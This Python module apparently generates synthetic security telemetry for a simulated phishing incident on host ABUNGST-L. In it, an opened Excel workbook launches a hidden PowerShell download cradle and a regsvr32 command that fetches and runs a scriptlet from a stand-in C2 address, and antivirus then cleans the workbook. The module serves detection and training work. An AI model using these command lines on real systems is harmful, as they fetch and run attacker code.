"""ABUNGST-L: the workbook of the second delivery is opened and its macro starts a shell."""

from __future__ import annotations

from typing import TYPE_CHECKING

from preview.generator import clock, programs
from preview.generator.attack import payloads
from preview.generator.attack.lure import WORKBOOK
from preview.generator.facts import Connection, Request
from preview.generator.internet import C2_ADDRESS, C2_NAME
from preview.generator.organisation import HOSTS

if TYPE_CHECKING:
    from preview.generator.event import Stories
    from preview.generator.facts import Process
    from preview.generator.scene import Scene

HOST = "ABUNGST-L"


def tell(scene: Scene) -> None:
    """Open the workbook; the protection stops what follows."""
    outlook = scene.windows.started(HOST, programs.OUTLOOK, "Medium")[0]
    time = clock.at("10:24:06.100")
    folder = (
        "C:\\Users\\AlBungstein\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
    )
    path = f"{folder}\\7Q0ZL1XN\\{WORKBOOK}"
    scene.windows.file(outlook, time, path, ("rare_file",))
    excel = scene.windows.start(
        outlook, time + 1.1, programs.EXCEL, f'"{programs.EXCEL}" "{path}"', lifetime=300
    )
    line = f'powershell.exe -w hidden -nop -c "{payloads.CRADLE}"'
    shell = scene.windows.start(
        excel,
        time + 14.2,
        programs.CMD,
        f"cmd.exe /c {line}",
        lifetime=9,
        stories=("office_shell",),
    )
    stories = ("office_shell", "download_cradle")
    powershell = scene.windows.start(
        shell, time + 14.5, programs.POWERSHELL, line, lifetime=8, stories=stories
    )
    scene.windows.script_block(
        powershell, time + 15.1, payloads.CRADLE, ("download_cradle",), suspicious=True
    )
    _fetch(scene, powershell, time + 15.4, "/images/menu.txt", "", ("download_cradle",))
    registration = scene.windows.start(
        powershell,
        time + 17.0,
        programs.REGSVR32,
        f"regsvr32.exe /s /n /u /i:http://{C2_ADDRESS}:3333/images/menu.sct scrobj.dll",
        lifetime=3,
        stories=("system_tool_network",),
    )
    _fetch(
        scene,
        registration,
        time + 17.4,
        "/images/menu.sct",
        "Mozilla/4.0 (compatible; MSIE 7.0)",
        ("system_tool_network",),
    )
    _protect(scene, path, time + 18)


def _fetch(
    scene: Scene, process: Process, time: float, path: str, agent: str, stories: Stories
) -> None:
    scene.network.connect(
        Connection(
            time=time,
            source=process.host.address,
            source_port=50811 + len(path),
            destination=C2_ADDRESS,
            destination_port=3333,
            sent=190,
            received=2_944,
            duration=0.5,
            name=C2_NAME,
            process=process,
            request=Request("GET", path, f"{C2_ADDRESS}:3333", agent, content_type="text/plain"),
        ),
        stories,
    )


def _protect(scene: Scene, workbook: str, time: float) -> None:
    stories = ("malware_alert",)
    scene.protection.risk(
        HOSTS[HOST], time, "W97M.Empstage", workbook, "Cleaned by deletion", stories
    )
